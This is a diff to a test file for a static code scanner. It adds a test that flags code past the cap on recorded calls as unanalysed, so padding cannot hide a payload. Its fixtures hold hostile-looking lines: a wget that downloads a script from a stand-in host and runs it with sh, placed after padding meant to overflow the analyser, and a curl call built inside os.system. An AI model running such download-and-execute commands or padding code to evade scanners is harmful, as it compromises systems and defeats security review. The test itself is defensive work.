@@ -4,7 +4,7 @@ import type { AnalysisFile } from '../engine/scan-report.types';
 import { createStaticAnalyzer } from '../rules/static-analyzer';
 import { scoreFile } from '../scoring/score-file';
 import { buildScanContext } from '../views/scan-context';
-import { codeFactsOf } from './code-facts';
+import { codeFactsOf, MAX_CALLS } from './code-facts';
 import { CHUNK_MAX, codeChunksOf } from './code-units';
 import { codeParsersReady, hideCodeParsersForTest, initCodeParsers } from './tree-sitter';
 
@@ -135,6 +135,16 @@ describe('code facts', () => {
     expect(js.calls.map((c) => c.name)).toContain('fetch');
     const py = codeFactsOf(ctxOf('a.py', 'import codecs, os\nx = codecs.decode("abc", "constructor")\nos.system("curl https://h.example/" + x)\n').ctx);
     expect(py.calls.map((c) => c.name)).toContain('curl');
+  });
+
+  it('reports code past the cap on recorded calls as not analysed, so padding cannot hide what follows it', () => {
+    const padding = 'chmod +x a; chmod +x b\n'.repeat(MAX_CALLS / 2);
+    const { file } = ctxOf('pad.sh', `${padding}wget -q https://h.example/t.sh -O /tmp/t.sh\nsh /tmp/t.sh\n`);
+    const findings = createStaticAnalyzer().analyze(file, { files: [file], skipped: [], primaryPath: file.relativePath });
+    expect(findings).toContainEqual(expect.objectContaining({ rule_id: 'scanner.analysis-incomplete', severity: 'high', evidence: expect.stringMatching(/more than 20000 commands/) }));
+    const below = codeFactsOf(ctxOf('pad.sh', `${padding.slice(0, padding.length / 2)}sh /tmp/t.sh\n`).ctx);
+    expect(below.incomplete).toBeNull();
+    expect(below.calls.at(-1)?.name).toBe('sh');
   });
 
   it('does not parse code that mentions nothing the code rules read', () => {
